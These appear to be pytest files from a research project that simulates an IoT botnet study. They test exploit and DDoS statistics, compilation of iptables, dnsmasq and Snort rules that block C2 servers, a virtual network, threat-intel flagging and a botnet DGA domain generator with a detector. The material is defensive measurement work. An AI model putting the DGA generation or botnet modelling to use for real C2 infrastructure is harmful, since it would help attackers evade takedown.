        expected = {"CVE-2018-10561", "CVE-2018-10562", "CVE-2015-2051",
                    "MVPOWER-DVR-RCE"}
        assert len(top & expected) >= 3

    def test_most_vulnerabilities_old(self, mid_study):
        """Q5: 9 of 12 exploited vulnerabilities are >4 years old."""
        _w, _m, _c, datasets = mid_study
        total = len(exploit_analysis.observed_vulnerability_ids(datasets))
        old = exploit_analysis.old_vulnerability_count(datasets, years=2.5)
        assert old >= total - 4

    def test_per_day_usage_sums(self, mid_study):
        _w, _m, _c, datasets = mid_study
        series = exploit_analysis.per_day_usage(datasets, days=280)
        total = sum(sum(row) for row in series.values())
        assert total == len(datasets.d_exploits)

    def test_loader_frequencies_match_figure9_names(self, mid_study):
        _w, _m, _c, datasets = mid_study
        from repro.botnet.exploits import LOADER_WEIGHTS

        freqs = exploit_analysis.loader_frequencies(datasets)
        assert freqs
        assert set(freqs) <= set(LOADER_WEIGHTS)

    def test_source_coverage_incomplete_everywhere(self, mid_study):
        """Q6: no single exploit database covers everything."""
        _w, _m, _c, datasets = mid_study
        coverage = exploit_analysis.exploit_source_coverage(datasets)
        total = sum(coverage.values())
        assert all(count < total for count in coverage.values())


class TestDdosAnalysis:
    def test_protocol_distribution_udp_dominant(self, mid_study):
        """Figure 10: UDP-based attacks dominate (74% in the paper)."""
        _w, _m, _c, datasets = mid_study
        shares = ddos_analysis.protocol_distribution(datasets)
        assert shares.get("UDP", 0) > 0.5
        assert shares.get("UDP", 0) > shares.get("TCP", 0)

    def test_mirai_launches_most_attacks(self, mid_study):
        """Figure 11: Mirai most, Daddyl33t second."""
        _w, _m, _c, datasets = mid_study
        per_family = ddos_analysis.attacks_per_family(datasets)
        assert per_family.get("mirai", 0) >= per_family.get("gafgyt", 0)
        assert per_family.get("daddyl33t", 0) >= per_family.get("gafgyt", 0)

    def test_port80_share(self, mid_study):
        _w, _m, _c, datasets = mid_study
        share = ddos_analysis.port_share(datasets, 80)
        assert 0.05 < share < 0.45

    def test_victim_kinds(self, mid_study):
        """Figure 12: ISPs and hosting providers are the main victims."""
        world, _m, _c, datasets = mid_study
        shares = ddos_analysis.victim_kind_shares(datasets, world.asdb)
        assert shares.get("isp", 0) + shares.get("hosting", 0) > 0.5

    def test_double_attacked_targets_exist(self, mid_study):
        world, _m, _c, datasets = mid_study
        share = ddos_analysis.double_attack_share(datasets, world.asdb)
        assert share > 0.05

    def test_country_concentration(self, mid_study):
        world, _m, _c, datasets = mid_study
        share = ddos_analysis.attack_country_concentration(datasets, world.asdb)
        assert share > 0.5  # paper: 80% from US+NL+CZ

    def test_gaming_presence(self, mid_study):
        world, _m, _c, datasets = mid_study
        assert ddos_analysis.gaming_share(datasets, world.asdb) >= 0.0


class TestReportRendering:
    def test_render_table(self):
        text = render_table(["a", "bb"], [["1", "222"]], title="T")
        assert "T" in text and "222" in text and "--" in text

    def test_render_cdf(self, mid_study):
        _w, _m, _c, datasets = mid_study
        points = c2_analysis.lifetime_cdf(datasets, dns=False)
        text = render_cdf(points, "Figure 2", "days")
        assert "Figure 2" in text and "%" in text

    def test_render_cdf_empty(self):
        assert "(empty)" in render_cdf([], "x")

    def test_render_histogram(self):
        text = render_histogram({"udp": 10, "syn": 2}, "attacks")
        assert "udp" in text and "#" in text

    def test_render_heatmap(self, mid_study):
        world, _m, _c, datasets = mid_study
        matrix = c2_analysis.weekly_as_heatmap(datasets, world.asdb, weeks=31)
        text = render_heatmap(matrix, "Figure 1")
        assert "AS" in text and "|" in text

    def test_render_probe_matrix(self, mid_study):
        _w, _m, campaign, _ds = mid_study
        text = render_probe_matrix(campaign.response_matrix(), "Figure 4")
        assert "#" in text and "." in text

    def test_render_comparison(self):
        text = render_comparison([("x", "1", "2")], "cmp")
        assert "paper" in text and "measured" in text
