"""Tests for firewall/IDS rule compilation."""

import pytest

from repro.core.firewall import (
    FirewallRule,
    RuleBundle,
    compile_rules,
    coverage_report,
)


@pytest.fixture(scope="module")
def bundle(mid_study):
    _w, _m, _c, datasets = mid_study
    return compile_rules(datasets)


class TestCompilation:
    def test_bundle_nonempty(self, bundle):
        assert len(bundle) > 20

    def test_every_technology_present(self, bundle):
        technologies = {rule.technology for rule in bundle.rules}
        assert technologies == {"iptables", "dnsmasq", "snort"}

    def test_verified_c2s_all_blocked(self, mid_study, bundle):
        _w, _m, _c, datasets = mid_study
        text = bundle.render()
        for record in datasets.d_c2s.values():
            if record.verified:
                assert record.endpoint in text

    def test_dns_c2s_use_dnsmasq(self, mid_study, bundle):
        _w, _m, _c, datasets = mid_study
        dns_records = [r for r in datasets.d_c2s.values()
                       if r.is_dns and r.verified]
        for record in dns_records:
            matching = [r for r in bundle.by_technology("dnsmasq")
                        if record.endpoint in r.text]
            assert matching, record.endpoint

    def test_iptables_rules_both_directions(self, bundle):
        rules = [r.text for r in bundle.by_technology("iptables")]
        outputs = [r for r in rules if r.startswith("-A OUTPUT")]
        inputs = [r for r in rules if r.startswith("-A INPUT")]
        assert outputs and inputs

    def test_snort_signatures_per_vulnerability(self, mid_study, bundle):
        _w, _m, _c, datasets = mid_study
        observed = {record.vuln_key for record in datasets.d_exploits}
        snort_text = bundle.render("snort")
        for key in observed:
            assert key in snort_text

    def test_snort_sids_unique(self, bundle):
        sids = []
        for rule in bundle.by_technology("snort"):
            sid = rule.text.split("sid:")[1].split(";")[0]
            sids.append(sid)
        assert len(sids) == len(set(sids))

    def test_ddos_signatures_follow_observations(self, mid_study, bundle):
        _w, _m, _c, datasets = mid_study
        types = {record.attack_type for record in datasets.d_ddos}
        snort_text = bundle.render("snort")
        if "BLACKNURSE" in types:
            assert "itype:3" in snort_text
        if "VSE" in types:
            assert "TSource Engine" in snort_text

    def test_rules_have_provenance(self, bundle):
        for rule in bundle.rules:
            assert rule.reason
            assert "#" in rule.render()

    def test_deduplication(self):
        bundle = RuleBundle()
        rule = FirewallRule("iptables", "-A OUTPUT -d 1.2.3.4 -j DROP", "x")
        bundle.add(rule)
        bundle.add(rule)
        assert len(bundle) == 1

    def test_unverified_excluded_by_default(self, mid_study):
        _w, _m, _c, datasets = mid_study
        strict = compile_rules(datasets, include_unverified=False)
        lax = compile_rules(datasets, include_unverified=True)
        assert len(lax) >= len(strict)


class TestCoverage:
    def test_full_c2_coverage(self, mid_study, bundle):
        _w, _m, _c, datasets = mid_study
        report = coverage_report(datasets, bundle)
        assert report["c2_coverage"] == 1.0

    def test_binary_coverage_exceeds_c2_count_share(self, mid_study, bundle):
        """Section 3.3: blocking shared C2s covers many binaries each."""
        _w, _m, _c, datasets = mid_study
        report = coverage_report(datasets, bundle)
        assert report["binary_coverage"] > 0.9

    def test_empty_datasets(self):
        from repro.core.datasets import Datasets

        empty = Datasets()
        bundle = compile_rules(empty)
        assert len(bundle) == 0
        report = coverage_report(empty, bundle)
        assert report == {"c2_coverage": 0.0, "binary_coverage": 0.0}
