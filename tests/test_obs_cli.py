"""The ``repro obs`` analysis CLI over telemetry artifact directories."""

import io
import json

import pytest

from repro.cli import main


def run_cli(*argv):
    out = io.StringIO()
    code = main(list(argv), out=out)
    return code, out.getvalue()


@pytest.fixture(scope="module")
def artifact_dirs(tmp_path_factory):
    """Two full artifact directories from different seeds (4 workers)."""
    base = tmp_path_factory.mktemp("obs")
    dirs = {}
    for seed in (3, 4):
        target = str(base / f"run-{seed}")
        code, text = run_cli("--scale", "smoke", "--seed", str(seed),
                             "study", "--workers", "4",
                             "--telemetry", target)
        assert code == 0
        dirs[seed] = target
    return dirs


def test_workers4_study_writes_all_five_artifacts(artifact_dirs):
    import os

    for target in artifact_dirs.values():
        names = sorted(os.listdir(target))
        assert names == ["events.jsonl", "manifest.json", "metrics.prom",
                         "snapshot.json", "trace.json"]
        for name in names:
            assert os.path.getsize(os.path.join(target, name)) > 0
    manifest = json.load(open(artifact_dirs[3] + "/manifest.json"))
    assert manifest["study"]["workers"] == 4
    assert len(manifest["shards"]) == 4


def test_obs_top_lists_slowest_stages(artifact_dirs):
    code, text = run_cli("obs", "top", artifact_dirs[3], "-n", "3")
    assert code == 0
    assert "Top 3 stages" in text
    # title + header + separator + 3 rows
    assert len([l for l in text.splitlines() if l.strip()]) == 6
    assert "wall s" in text


def test_obs_diff_same_run_exits_zero(artifact_dirs):
    code, text = run_cli("obs", "diff", artifact_dirs[3], artifact_dirs[3])
    assert code == 0
    assert "0 breach(es)" in text


def test_obs_diff_different_seeds_breaches_threshold(artifact_dirs):
    code, text = run_cli("obs", "diff", artifact_dirs[3], artifact_dirs[4],
                         "--threshold", "0.01")
    assert code == 1
    assert "BREACH" in text
    assert "counter" in text


def test_obs_diff_appearing_series_breach_any_threshold(artifact_dirs):
    # a series that appears or vanishes is an infinite relative change;
    # no finite threshold waves it through
    code, text = run_cli("obs", "diff", artifact_dirs[3], artifact_dirs[4],
                         "--threshold", "1e9", "--min-wall", "1e9")
    breaches = [l for l in text.splitlines() if "BREACH" in l]
    if breaches:
        assert code == 1
        assert all("(new)" in l or "(gone)" in l for l in breaches)
    else:
        assert code == 0


def test_obs_timeline_renders_tracks(artifact_dirs):
    code, text = run_cli("obs", "timeline", artifact_dirs[3])
    assert code == 0
    assert "main" in text
    for shard in range(4):
        assert f"shard[{shard}]" in text
    assert "#" in text and "spans" in text


def test_obs_manifest_summary_and_json(artifact_dirs):
    code, text = run_cli("obs", "manifest", artifact_dirs[3])
    assert code == 0
    assert "seed 3" in text and "workers 4" in text
    assert "shard[0]" in text and "datasets:" in text
    code, raw = run_cli("obs", "manifest", artifact_dirs[3], "--json")
    assert code == 0
    assert json.loads(raw)["study"]["seed"] == 3


def test_obs_rejects_missing_directory(tmp_path):
    with pytest.raises(SystemExit, match="repro obs"):
        run_cli("obs", "top", str(tmp_path / "nope"))
    with pytest.raises(SystemExit, match="repro obs"):
        run_cli("obs", "manifest", str(tmp_path / "nope"))


def test_obs_requires_subcommand():
    with pytest.raises(SystemExit):
        run_cli("obs")
