"""Tests for the virtual Internet: hosts, TCP/UDP services, DNS, liveness."""

import random

import pytest

from repro.netsim.addresses import ip_to_int
from repro.netsim.capture import Capture
from repro.netsim.internet import (
    Listener,
    STUDY_EPOCH,
    SimClock,
    VirtualInternet,
)
from repro.netsim.packet import Protocol, icmp_packet, udp_packet

CLIENT_IP = ip_to_int("198.51.100.10")
SERVER_IP = ip_to_int("203.0.113.10")


class EchoTcp:
    """Echoes client data back with a prefix."""

    def on_connect(self, session):
        session.state["greeted"] = True

    def on_data(self, session, data):
        session.send(b"echo:" + data)


class EchoUdp:
    def on_datagram(self, host, pkt, now):
        return [b"pong:" + pkt.payload]


@pytest.fixture
def net():
    internet = VirtualInternet(random.Random(0))
    internet.add_host(CLIENT_IP, "client")
    server = internet.add_host(SERVER_IP, "server")
    server.bind(Listener(port=7, protocol=Protocol.TCP, service=EchoTcp()))
    server.bind(Listener(port=7, protocol=Protocol.UDP, service=EchoUdp()))
    return internet


class TestClock:
    def test_starts_at_epoch(self):
        assert SimClock().now == STUDY_EPOCH

    def test_advance(self):
        clock = SimClock()
        clock.advance(10)
        assert clock.now == STUDY_EPOCH + 10

    def test_no_backwards(self):
        clock = SimClock()
        with pytest.raises(ValueError):
            clock.advance(-1)
        with pytest.raises(ValueError):
            clock.advance_to(STUDY_EPOCH - 1)

    def test_day_number(self):
        clock = SimClock()
        clock.advance(3 * 86400 + 100)
        assert clock.day_number() == 3


class TestTcpService:
    def test_connect_and_echo(self, net):
        trace = Capture()
        session = net.tcp_connect(CLIENT_IP, SERVER_IP, 7, trace)
        assert session is not None
        session.send(b"hello")
        assert session.recv() == b"echo:hello"

    def test_trace_contains_handshake_and_data(self, net):
        trace = Capture()
        session = net.tcp_connect(CLIENT_IP, SERVER_IP, 7, trace)
        session.send(b"hi")
        flags_seen = [p.flags for p in trace if p.protocol == Protocol.TCP]
        assert any(p.is_syn for p in trace)
        assert any(p.is_synack for p in trace)
        assert any(p.payload == b"hi" for p in trace)
        assert any(p.payload == b"echo:hi" for p in trace)
        assert len(flags_seen) >= 5

    def test_timestamps_monotonic(self, net):
        trace = Capture()
        session = net.tcp_connect(CLIENT_IP, SERVER_IP, 7, trace)
        session.send(b"a")
        session.send(b"b")
        times = [p.timestamp for p in trace]
        assert times == sorted(times)

    def test_connect_closed_port_refused(self, net):
        trace = Capture()
        assert net.tcp_connect(CLIENT_IP, SERVER_IP, 9999, trace) is None
        from repro.netsim.packet import TcpFlags

        assert any(p.flags & TcpFlags.RST for p in trace)

    def test_connect_unknown_host_silent(self, net):
        trace = Capture()
        assert net.tcp_connect(CLIENT_IP, ip_to_int("192.0.2.99"), 7, trace) is None
        assert len(trace) == 1  # just our SYN, no reply

    def test_offline_host_unreachable(self, net):
        server = net.host(SERVER_IP)
        server.set_lifetime(net.clock.now + 1000, net.clock.now + 2000)
        assert net.tcp_connect(CLIENT_IP, SERVER_IP, 7) is None
        net.clock.advance(1500)
        assert net.tcp_connect(CLIENT_IP, SERVER_IP, 7) is not None
        net.clock.advance(1000)
        assert net.tcp_connect(CLIENT_IP, SERVER_IP, 7) is None

    def test_elusive_listener_gate(self, net):
        server = net.host(SERVER_IP)
        gate = {"open": False}
        server.bind(
            Listener(
                port=666, protocol=Protocol.TCP, service=EchoTcp(),
                accepts=lambda now: gate["open"],
            )
        )
        assert net.tcp_connect(CLIENT_IP, SERVER_IP, 666) is None
        gate["open"] = True
        assert net.tcp_connect(CLIENT_IP, SERVER_IP, 666) is not None

    def test_banner_sent_on_connect(self, net):
        server = net.host(SERVER_IP)
        server.bind(
            Listener(port=2323, protocol=Protocol.TCP, service=EchoTcp(),
                     banner=b"login: ")
        )
        session = net.tcp_connect(CLIENT_IP, SERVER_IP, 2323)
        assert session.recv() == b"login: "

    def test_close_session(self, net):
        session = net.tcp_connect(CLIENT_IP, SERVER_IP, 7)
        session.close()
        assert session.closed
        with pytest.raises(ConnectionError):
            session.send(b"late")

    def test_port_is_open(self, net):
        assert net.port_is_open(SERVER_IP, 7)
        assert not net.port_is_open(SERVER_IP, 9999)
        assert not net.port_is_open(ip_to_int("192.0.2.99"), 7)


class TestUdpAndIcmp:
    def test_udp_echo(self, net):
        trace = Capture()
        probe = udp_packet(CLIENT_IP, SERVER_IP, 4000, 7, b"ping")
        replies = net.send_datagram(probe, trace)
        assert len(replies) == 1
        assert replies[0].payload == b"pong:ping"
        assert len(trace) == 2

    def test_udp_to_closed_port_dropped(self, net):
        probe = udp_packet(CLIENT_IP, SERVER_IP, 4000, 9999, b"ping")
        assert net.send_datagram(probe) == []

    def test_icmp_echo(self, net):
        ping = icmp_packet(CLIENT_IP, SERVER_IP, icmp_type=8, payload=b"abc")
        replies = net.send_datagram(ping)
        assert len(replies) == 1
        assert replies[0].icmp_type == 0
        assert replies[0].payload == b"abc"

    def test_icmp_to_offline_host_dropped(self, net):
        net.host(SERVER_IP).set_lifetime(0, 1)  # long gone
        ping = icmp_packet(CLIENT_IP, SERVER_IP, icmp_type=8)
        assert net.send_datagram(ping) == []


class TestDns:
    def test_lookup_registered(self, net):
        net.resolver.register("c2.example", SERVER_IP)
        response = net.dns_lookup(CLIENT_IP, "c2.example")
        assert response.addresses == [SERVER_IP]

    def test_lookup_missing_is_nxdomain(self, net):
        assert net.dns_lookup(CLIENT_IP, "nope.example").is_nxdomain

    def test_lookup_traffic_recorded(self, net):
        net.resolver.register("c2.example", SERVER_IP)
        trace = Capture()
        net.dns_lookup(CLIENT_IP, "c2.example", trace)
        assert len(trace) == 2
        assert trace[0].dport == 53 and trace[1].sport == 53


class TestBackbone:
    def test_backbone_records_everything(self, net):
        before = len(net.backbone)
        session = net.tcp_connect(CLIENT_IP, SERVER_IP, 7)
        session.send(b"x")
        assert len(net.backbone) > before

    def test_duplicate_host_rejected(self, net):
        with pytest.raises(ValueError):
            net.add_host(SERVER_IP)

    def test_ensure_host_idempotent(self, net):
        assert net.ensure_host(SERVER_IP) is net.host(SERVER_IP)

    def test_duplicate_bind_rejected(self, net):
        with pytest.raises(ValueError):
            net.host(SERVER_IP).bind(
                Listener(port=7, protocol=Protocol.TCP, service=EchoTcp())
            )
