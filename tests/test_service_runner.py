"""The service tentpole's hard invariant: day-granular == monolithic.

A study executed one feed-day at a time — optionally sharded in-process,
optionally checkpointed to disk and resumed in a *different* runner —
must reproduce the monolithic ``run_study`` datasets byte for byte
(``dataset_digest`` equality, the same oracle the golden tests use).
Also covers the checkpoint store's paranoia: corruption, fingerprint
mismatch, and shape mismatch all degrade to a fresh start, never to a
wrong result.
"""

import os

import pytest

from repro.core.cache import dataset_digest, study_fingerprint
from repro.core.pipeline import PipelineConfig
from repro.core.study import DayRunner, run_study
from repro.netsim.faults import FAULT_PLANS
from repro.service import CheckpointStore, StudyCheckpoint, StudyService
from repro.world import StudyScale, generate_world

SCALE = StudyScale(sample_fraction=0.05, probe_days=4,
                   observe_duration=1800.0, observe_poll_interval=300.0,
                   scan_budget=120)
SEED = 4242

CONFIGS = {
    "plain": None,
    "mild": PipelineConfig(faults=FAULT_PLANS["mild"]),
}


@pytest.fixture(scope="module")
def baselines():
    """Monolithic run_study digests, one per fault setting."""
    digests = {}
    for name, config in CONFIGS.items():
        world = generate_world(seed=SEED, scale=SCALE)
        _malnet, _campaign, datasets = run_study(world, config=config)
        digests[name] = dataset_digest(datasets)
    return digests


# -- incremental == monolithic ------------------------------------------------


@pytest.mark.parametrize("shards", [1, 2])
@pytest.mark.parametrize("faults", sorted(CONFIGS))
def test_day_by_day_equals_monolithic(shards, faults, baselines):
    runner = DayRunner(seed=SEED, scale=SCALE, config=CONFIGS[faults],
                       shards=shards)
    days = 0
    while not runner.pipeline_done:
        result = runner.run_next_day()
        assert result["day"] == days
        days += 1
    assert days == runner.total_days
    runner.finalize()
    assert dataset_digest(runner.datasets) == baselines[faults]


def test_run_study_still_uses_day_runner_serially(baselines):
    """The refactored serial run_study path is the DayRunner path."""
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(world)
    assert dataset_digest(datasets) == baselines["plain"]


def test_mid_study_datasets_are_a_consistent_prefix():
    """At a day boundary the merged view equals a fresh runner's view."""
    a = DayRunner(seed=SEED, scale=SCALE, shards=2)
    b = DayRunner(seed=SEED, scale=SCALE, shards=1)
    for _ in range(120):
        a.run_next_day()
        b.run_next_day()
    assert dataset_digest(a.datasets) == dataset_digest(b.datasets)


def test_run_next_day_raises_when_done():
    runner = DayRunner(seed=SEED, scale=SCALE,
                       config=PipelineConfig(study_days=3))
    runner.run_remaining_days()
    with pytest.raises(RuntimeError):
        runner.run_next_day()


def test_complete_pipeline_raises_while_days_pending():
    runner = DayRunner(seed=SEED, scale=SCALE)
    runner.run_next_day()
    with pytest.raises(RuntimeError):
        runner.complete_pipeline()


# -- restart + resume ---------------------------------------------------------


def test_restart_resume_mid_study(tmp_path, baselines):
    """Kill after N days, restore into a brand-new runner, finish:
    byte-identical to the uninterrupted monolithic run."""
    fingerprint = study_fingerprint(SEED, SCALE)
    store = CheckpointStore(str(tmp_path))
    first = DayRunner(seed=SEED, scale=SCALE, shards=2)
    for _ in range(100):
        first.run_next_day()
    store.save(StudyCheckpoint(
        fingerprint=fingerprint, shards=2, next_day=first.next_day,
        total_days=first.total_days, finalized=False,
        state=first.state_snapshot()))
    del first  # the "restart": nothing survives but the file

    loaded = store.load(fingerprint)
    assert loaded is not None and loaded.next_day == 100
    resumed = DayRunner(seed=SEED, scale=SCALE, shards=2)
    resumed.restore_state(loaded.state)
    assert resumed.next_day == 100
    resumed.run_remaining_days()
    resumed.finalize()
    assert dataset_digest(resumed.datasets) == baselines["plain"]


def test_resume_after_finalize_preserves_probing(tmp_path, baselines):
    fingerprint = study_fingerprint(SEED, SCALE)
    store = CheckpointStore(str(tmp_path))
    first = DayRunner(seed=SEED, scale=SCALE)
    first.run_remaining_days()
    first.finalize()
    store.save(StudyCheckpoint(
        fingerprint=fingerprint, shards=1, next_day=first.next_day,
        total_days=first.total_days, finalized=True,
        state=first.state_snapshot()))
    resumed = DayRunner(seed=SEED, scale=SCALE)
    resumed.restore_state(store.load(fingerprint).state)
    assert resumed.finalized
    assert dataset_digest(resumed.datasets) == baselines["plain"]


def test_restore_rejects_mismatched_shape():
    runner = DayRunner(seed=SEED, scale=SCALE, shards=2)
    runner.run_next_day()
    state = runner.state_snapshot()
    with pytest.raises(ValueError):
        DayRunner(seed=SEED, scale=SCALE, shards=3).restore_state(state)
    truncated = DayRunner(seed=SEED, scale=SCALE,
                          config=PipelineConfig(study_days=5))
    with pytest.raises(ValueError):
        truncated.restore_state(state)


# -- checkpoint store paranoia ------------------------------------------------


def test_corrupt_checkpoint_loads_as_none(tmp_path):
    fingerprint = study_fingerprint(SEED, SCALE)
    store = CheckpointStore(str(tmp_path))
    runner = DayRunner(seed=SEED, scale=SCALE,
                       config=PipelineConfig(study_days=2))
    runner.run_next_day()
    path = store.save(StudyCheckpoint(
        fingerprint=fingerprint, shards=1, next_day=1,
        total_days=2, finalized=False, state=runner.state_snapshot()))
    blob = open(path, "rb").read()
    open(path, "wb").write(blob[:-7])  # truncate: checksum must fail
    assert store.load(fingerprint) is None
    assert store.rejected == 1
    os.unlink(path)
    assert store.load(fingerprint) is None  # missing is a quiet miss
    assert store.rejected == 1


def test_checkpoint_under_wrong_fingerprint_is_rejected(tmp_path):
    store = CheckpointStore(str(tmp_path))
    runner = DayRunner(seed=SEED, scale=SCALE,
                       config=PipelineConfig(study_days=2))
    runner.run_next_day()
    path = store.save(StudyCheckpoint(
        fingerprint="aaaa", shards=1, next_day=1, total_days=2,
        finalized=False, state=runner.state_snapshot()))
    os.rename(path, store.path_for("bbbb"))
    assert store.load("bbbb") is None
    assert store.rejected == 1


# -- StudyService resume semantics -------------------------------------------


SHORT = PipelineConfig(study_days=40)


def test_service_restart_resumes_and_matches_batch(tmp_path, baselines):
    first = StudyService(seed=SEED, scale=SCALE, shards=2,
                         checkpoint_dir=str(tmp_path))
    first.ingest_days(17)
    assert not first.resumed
    del first

    second = StudyService(seed=SEED, scale=SCALE, shards=2,
                          checkpoint_dir=str(tmp_path))
    assert second.resumed
    assert second.runner.next_day == 17
    second.ingest_days(None)   # runs to the end and auto-finalizes
    assert second.finalized
    assert second.digest() == baselines["plain"]


def test_service_discards_checkpoint_with_different_shard_count(tmp_path):
    first = StudyService(seed=SEED, scale=SCALE, config=SHORT, shards=2,
                         checkpoint_dir=str(tmp_path))
    first.ingest_days(5)
    second = StudyService(seed=SEED, scale=SCALE, config=SHORT, shards=1,
                          checkpoint_dir=str(tmp_path))
    assert not second.resumed
    assert second.runner.next_day == 0
    assert second.store.rejected == 1


def test_service_without_checkpoint_dir_never_persists():
    service = StudyService(seed=SEED, scale=SCALE, config=SHORT)
    service.ingest_days(3)
    service.flush()
    assert service.store is None
