"""Tests for the TI vendor directory and its calibration targets."""

import pytest

from repro.intel.vendors import (
    ACTIVE_VENDORS,
    IocIntel,
    TABLE7_VENDORS,
    TOTAL_VENDORS,
    VendorDirectory,
    build_vendor_directory,
)


@pytest.fixture(scope="module")
def directory():
    return VendorDirectory()


def intel(ioc="203.0.113.5", obscurity=0.4, delay=0.0, first_public=1_000_000.0):
    return IocIntel(
        ioc=ioc, first_public=first_public, obscurity=obscurity,
        publicity_delay_days=delay,
    )


class TestDirectoryShape:
    def test_89_vendors(self):
        vendors = build_vendor_directory()
        assert len(vendors) == TOTAL_VENDORS == 89

    def test_44_active_45_silent(self):
        vendors = build_vendor_directory()
        active = [v for v in vendors if v.threshold > 0]
        assert len(active) == ACTIVE_VENDORS == 44
        assert len(vendors) - len(active) == 45

    def test_table7_names_present(self):
        names = {v.name for v in build_vendor_directory()}
        for name, _count in TABLE7_VENDORS:
            assert name in names


class TestFlagging:
    def test_famous_ioc_widely_flagged(self, directory):
        flaggers = directory.eventual_flaggers(intel(obscurity=0.05))
        assert len(flaggers) >= 15

    def test_obscure_ioc_rarely_flagged(self, directory):
        flaggers = directory.eventual_flaggers(intel(obscurity=1.3))
        assert len(flaggers) <= 2

    def test_silent_vendors_never_flag(self, directory):
        flaggers = directory.eventual_flaggers(intel(obscurity=-1.0))
        assert all(not name.startswith("SilentFeed") for name in flaggers)

    def test_deterministic(self, directory):
        a = directory.eventual_flaggers(intel())
        b = directory.eventual_flaggers(intel())
        assert a == b

    def test_different_iocs_differ(self, directory):
        # near threshold, noise should make vendor sets differ across IoCs
        sets = {
            tuple(directory.eventual_flaggers(intel(ioc=f"198.51.100.{i}",
                                                    obscurity=0.78)))
            for i in range(10)
        }
        assert len(sets) > 1


class TestTiming:
    def test_no_delay_means_same_day(self, directory):
        record = intel(obscurity=0.05, delay=0.0)
        now = record.first_public + 3600.0
        assert directory.flags_at(record, now)

    def test_publicity_delay_blocks_same_day(self, directory):
        record = intel(obscurity=0.05, delay=5.0)
        same_day = record.first_public + 3600.0
        later = record.first_public + 30 * 86400.0
        assert directory.flags_at(record, same_day) == []
        assert directory.flags_at(record, later)

    def test_flags_accumulate_over_time(self, directory):
        record = intel(obscurity=0.3, delay=0.5)
        t0 = record.first_public
        counts = [
            len(directory.flags_at(record, t0 + days * 86400.0))
            for days in (0, 2, 10, 60)
        ]
        assert counts == sorted(counts)
        assert counts[-1] > 0

    def test_detection_time_none_for_non_flagger(self, directory):
        record = intel(obscurity=5.0)
        for vendor in directory.vendors:
            assert directory.detection_time(vendor, record) is None


class TestCalibrationBands:
    """Population-level sanity against Table 3 / Figure 7 shapes.

    The precise rates are asserted at pipeline level; here we check the
    raw model produces the right orderings on a synthetic population.
    """

    def test_vendor_count_distribution_has_low_tail(self, directory):
        # Figure 7: a sizable minority of known C2s have only 1-2 flaggers.
        counts = []
        for i in range(300):
            u = (i % 100) / 100.0 * 1.1
            record = intel(ioc=f"192.0.2.{i % 250}.x{i}", obscurity=u)
            n = len(directory.eventual_flaggers(record))
            if n > 0:
                counts.append(n)
        low = sum(1 for n in counts if n <= 2) / len(counts)
        high = sum(1 for n in counts if n >= 10) / len(counts)
        assert 0.05 < low < 0.5
        assert high > 0.3

    def test_top_vendor_hits_majority_of_moderate_iocs(self, directory):
        top = directory.vendors[0]
        hits = sum(
            1 for i in range(200)
            if directory.eventually_flags(
                top, intel(ioc=f"10.9.{i}.x", obscurity=0.5 * (i % 100) / 100.0)
            )
        )
        assert hits / 200 > 0.8
