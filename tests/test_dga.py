"""Tests for the DGA scenario: schedule purity, the defender loop, the
resolver wiring, the opt-in world/study plumbing, and the two new figures."""

import dataclasses
import os
import subprocess
import sys

import pytest
from hypothesis import given, settings, strategies as st

from repro.botnet.families import (
    dga_domains,
    dga_families,
    dga_schedule_seed,
)
from repro.core import c2_analysis as ca
from repro.core.cache import dataset_digest
from repro.core.datasets import C2Record, Datasets
from repro.core.profiles import BinaryNetworkProfile
from repro.core.study import run_study
from repro.defense import (
    APPEAL_SUCCESS_RATE,
    APPEAL_WINDOW,
    DETECTION_DELAY_MAX,
    DETECTION_DELAY_MIN,
    DnsDefense,
    DomainScorer,
)
from repro.determinism import stable_unit
from repro.netsim.dns import DnsQuery, RCODE_SERVFAIL, Resolver, encode_name
from repro.obs.metrics import MetricsRegistry
from repro.world import SMOKE_SCALE, generate_world

SEED = 20220322
DGA_SCALE = dataclasses.replace(SMOKE_SCALE, dga=True)

seeds = st.integers(min_value=1, max_value=2**32 - 1)
days = st.integers(min_value=0, max_value=400)
family_names = st.sampled_from([fam.name for fam in dga_families()])


class TestDgaGenerator:
    def test_schedule_seed_nonzero_32bit(self):
        for fam in dga_families():
            for disc in (0, 1, 0xDEADBEEF):
                seed = dga_schedule_seed(SEED, fam.name, disc)
                assert 1 <= seed <= 0xFFFFFFFF

    def test_schedule_seed_distinguishes_campaigns(self):
        a = dga_schedule_seed(SEED, "mirai", 111)
        b = dga_schedule_seed(SEED, "mirai", 222)
        assert a != b

    def test_non_dga_family_yields_nothing(self):
        assert dga_domains(12345, "vpnfilter", 3) == []

    @given(seeds, family_names, days)
    @settings(max_examples=60, deadline=None)
    def test_pure_valid_and_in_profile(self, seed, family, day):
        first = dga_domains(seed, family, day)
        assert first == dga_domains(seed, family, day)
        profile = next(f for f in dga_families() if f.name == family).dga
        assert len(first) == profile.daily_candidates
        for domain in first:
            label, _, tld = domain.rpartition(".")
            assert tld in profile.tlds
            assert profile.min_length <= len(label) <= profile.max_length
            assert set(label) <= set(profile.alphabet)
            encode_name(domain)  # must be wire-encodable

    def test_days_differ(self):
        seed = dga_schedule_seed(SEED, "mirai")
        assert dga_domains(seed, "mirai", 0) != dga_domains(seed, "mirai", 1)

    def test_pure_across_processes(self):
        """The schedule must not depend on interpreter state (hash seed,
        RNG): a fresh process with a different PYTHONHASHSEED must derive
        the exact same candidate list the parent did."""
        seed = dga_schedule_seed(SEED, "gafgyt", 42)
        script = (
            "from repro.botnet.families import dga_domains\n"
            f"print(';'.join(dga_domains({seed}, 'gafgyt', 17)))\n"
        )
        env = dict(os.environ)
        env["PYTHONHASHSEED"] = "271828"
        src = os.path.join(os.path.dirname(__file__), os.pardir, "src")
        env["PYTHONPATH"] = os.path.abspath(src)
        out = subprocess.run(
            [sys.executable, "-c", script], env=env,
            capture_output=True, text=True, check=True,
        )
        assert out.stdout.strip().split(";") == dga_domains(seed, "gafgyt", 17)


class TestDomainScorer:
    def test_generated_labels_score_as_dga(self):
        scorer = DomainScorer()
        for fam in dga_families():
            seed = dga_schedule_seed(SEED, fam.name, 7)
            for day in range(5):
                for domain in dga_domains(seed, fam.name, day):
                    assert scorer.is_dga(domain), (domain, scorer.score(domain))

    def test_vanity_c2_names_score_benign(self):
        scorer = DomainScorer()
        for name in ("cnc42.xyz", "scan99.net", "okiru73.cc",
                     "darkboat.ru", "sorapain.top", "update.pool.net"):
            assert not scorer.is_dga(name), (name, scorer.score(name))

